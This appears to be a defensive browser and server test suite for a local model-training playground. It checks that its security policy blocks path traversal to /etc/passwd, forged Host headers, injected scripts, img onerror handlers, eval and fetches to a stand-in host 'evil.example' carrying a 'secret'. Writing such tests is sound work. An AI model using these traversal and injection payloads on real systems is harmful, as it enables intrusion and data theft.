import { request } from 'node:http';
import { launchChromium, requireChromium, type Browser, type Page } from '@attune/browser-harness';
import { openPlayground, type OpenPlayground } from './testing/open-playground.js';
import { PlaygroundPage, TINY } from './testing/playground-page.js';

const chromium = await requireChromium('the policy of the playground', { test });

let playground: OpenPlayground;
beforeAll(async () => {
  playground = await openPlayground();
});
afterAll(() => playground?.close());

/** The answer to a path as it is, which `fetch` would tidy up. */
function get(path: string, host?: string): Promise<{ status: number; headers: Headers; body: string }> {
  const { hostname, port } = new URL(playground.url);
  return new Promise((resolve, reject) => {
    const headers = host === undefined ? {} : { host };
    request({ hostname, port, path, headers }, (response) => {
      let body = '';
      response.on('data', (chunk: Buffer) => (body += String(chunk)));
      response.on('end', () => {
        const given = new Headers(response.headers as Record<string, string>);
        resolve({ status: response.statusCode!, headers: given, body });
      });
    })
      .on('error', reject)
      .end();
  });
}

describe('the server of the playground', () => {
  test('is for this machine alone, and sends the policy with every file', async () => {
    expect(new URL(playground.url).hostname).toMatch(/^(127\.0\.0\.1|localhost)$/);
    const { body } = await get('/');
    const files = [...body.matchAll(/(?:src|href)="\.(\/[^"]+)"/g)].map(([, path]) => path!);
    expect(files.length).toBeGreaterThanOrEqual(2);
    for (const path of ['/', ...files]) {
      const { status, headers } = await get(path);
      expect(status).toBe(200);
      const policy = headers.get('content-security-policy')!.split('; ');
      expect(policy).toEqual(
        expect.arrayContaining(["default-src 'none'", "frame-ancestors 'none'", "base-uri 'none'"]),
      );
      const hub = "connect-src 'self' https://huggingface.co https://*.huggingface.co https://*.hf.co";
      expect(policy).toContain(hub);
      const others = policy.filter((directive) => directive !== hub);
      expect(others.join()).not.toMatch(/unsafe-inline|'unsafe-eval'|\*|https?:/);
      expect(Object.fromEntries(headers)).toMatchObject({
        'x-content-type-options': 'nosniff',
        'referrer-policy': 'no-referrer',
        'cross-origin-opener-policy': 'same-origin',
        'cross-origin-embedder-policy': 'require-corp',
        'cross-origin-resource-policy': 'same-origin',
      });
    }
  });

  test('the page has no script and no style in it, and the same policy for servers without headers', async () => {
    const { body, headers } = await get('/');
    expect(body).not.toMatch(/<style|<script(?![^>]* src=)| style=| on\w+=/);
    const [, policy] = /http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(body)!;
    expect(`${policy!.replaceAll('&#39;', "'")}; frame-ancestors 'none'`).toBe(
      headers.get('content-security-policy'),
    );
  });

  test.each([
    '/../package.json',
    '/../../../../../../etc/passwd',
    '/%2e%2e/package.json',
    '/..%2fpackage.json',
    '/..%5cpackage.json',
    '/assets/..%2f..%2f..%2f..%2f..%2fetc/passwd',
    '//etc/passwd',
    '/%00',
    '/%',
  ])('%s leads nowhere', async (path) => {
    const { status, body } = await get(path);
    expect(body).not.toMatch(/root:|"name": "@attune/);
    // Of an application with one page, an unknown path may be that page.
    expect(status === 200 ? body : '<!doctype html>').toMatch(/^<!doctype html>/);
  });

  test('a name that was made to lead here is not answered', async () => {
    expect((await get('/', 'evil.example')).status).toBe(403);
    expect((await get('/', '127.0.0.1.evil.example:4173')).status).toBe(403);
  });
});

(chromium === undefined ? describe.skip : describe)('the policy of the playground', () => {
  let browser: Browser;
  beforeAll(async () => {
    browser = await launchChromium(chromium!, false);
  });
  afterAll(() => browser?.close());
  afterEach(() => void PlaygroundPage.takeComplaints());

  test('nothing of a stranger runs, loads or leaves, in the page or its worker; and that is noticed', async () => {
    const page = await PlaygroundPage.open(await browser.newContext(), playground.url);
    const asked: string[] = [];
    await page.page.route('**/*', (route) => {
      asked.push(route.request().url());
      return route.abort();
    });
    await page.page.evaluate(async () => {
      const global = globalThis as { stolen?: boolean };
      const box = document.createElement('div');
      box.innerHTML =
        '<img src="https://evil.example/x.png" onerror="stolen = true"><base href="//evil.example">';
      document.body.append(box);
      for (const content of [{ textContent: 'stolen = true' }, { src: 'https://evil.example/x.js' }]) {
        document.body.append(Object.assign(document.createElement('script'), content));
      }
      document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example' }));
      await fetch('https://evil.example/?secret').catch(() => undefined);
      // In a task of its own: what a test evaluates itself may do so.
      const refused = await new Promise<boolean>((resolve) =>
        setTimeout(() => {
          try {
            (0, eval)('stolen = true');
            resolve(false);
          } catch {
            resolve(true);
          }
        }),
      );
      if (!refused) throw new Error('It may be made from text.');
      if (global.stolen) throw new Error('It ran.');
    });
    const [worker] = page.page.workers();
    const refused = await worker!.evaluate(async () => {
      const made = await new Promise((resolve) =>
        setTimeout(() => {
          try {
            resolve(Function('return 1')());
          } catch {
            resolve('refused');
          }
        }),
      );
      const sent = await fetch('https://evil.example/').then(
        () => 'sent',
        () => 'refused',
      );
      return [made, sent];
    });
    expect(refused).toEqual(['refused', 'refused']);
    expect(asked.filter((url) => url.includes('evil'))).toEqual([]);
    await PlaygroundPage.awaitComplaints(/script-src/, /img-src/, /connect-src/, /base-uri/, /frame-src/);
    await page.page.context().close();
  });

  test('all that the page does is within it: training, samples, a checkpoint, writing, a download; and another run', async () => {
    const page = await PlaygroundPage.open(await browser.newContext(), playground.url);
    const { page: tab } = page;
    // Whatever is planted in the page before that does not run.
    await tab.evaluate(async () => {
      const noticed = new Promise((resolve) => addEventListener('securitypolicyviolation', resolve));
      const script = document.createElement('script');
      script.textContent = 'planted = true';
      document.body.append(script);
      await noticed;
    });
    expect(await tab.evaluate(() => 'planted' in globalThis)).toBe(false);
    await PlaygroundPage.awaitComplaints(/script-src/);

    const heard = await violationsOf(tab.workers());
    const run = { ...TINY, maxIters: 6, evalInterval: 3, checkpointInterval: 2 };
    await page.start('wasm', run);
    await page.phase('finished');
    expect(await page.samples()).toHaveLength(2);
    expect(await page.write({ prompt: 'Once ', temperature: '1', length: '5', stop: '' })).toMatch(/^Once /);
    const downloading = tab.waitForEvent('download');
    await tab.click('#download');
    const archive = (await (await downloading).path())!;
    await page.discard();
    await tab.setInputFiles('#archive', archive);
    await page.phase('finished');
    expect(PlaygroundPage.takeComplaints()).toEqual([]);
    expect(await heard()).toEqual([]);
    await tab.context().close();
  });

  test('where a server sends no headers, the page has it all the same, and trains', async () => {
    const context = await browser.newContext({ serviceWorkers: 'block' });
    await context.route('**/*', async (route) => {
      const response = await route.fetch();
      const type = response.headers()['content-type'];
      await route.fulfill({ response, headers: type === undefined ? {} : { 'content-type': type } });
    });
    const page = await PlaygroundPage.open(context, playground.url);
    await page.start('wasm', { ...TINY, maxIters: 2 });
    await page.phase('finished');
    expect(PlaygroundPage.takeComplaints()).toEqual([]);
    await page.page.evaluate(() => fetch('https://evil.example').catch(() => undefined));
    await PlaygroundPage.awaitComplaints(/connect-src/);
    await context.close();
  });
});

type TestWorker = { violations: string[] };

/** Listens in workers, whose violations the page is not told of. The function that is returned lists them. */
async function violationsOf(workers: ReturnType<Page['workers']>): Promise<() => Promise<string[]>> {
  for (const worker of workers) {
    await worker.evaluate(() => {
      const { violations } = Object.assign(globalThis, { violations: [] as string[] });
      addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) =>
        violations.push(`${violatedDirective} ${blockedURI}`),
      );
    });
  }
  return async () => {
    const lists = workers.map((worker) =>
      worker.evaluate(() => (globalThis as unknown as TestWorker).violations),
    );
    return (await Promise.all(lists)).flat();
  };
}
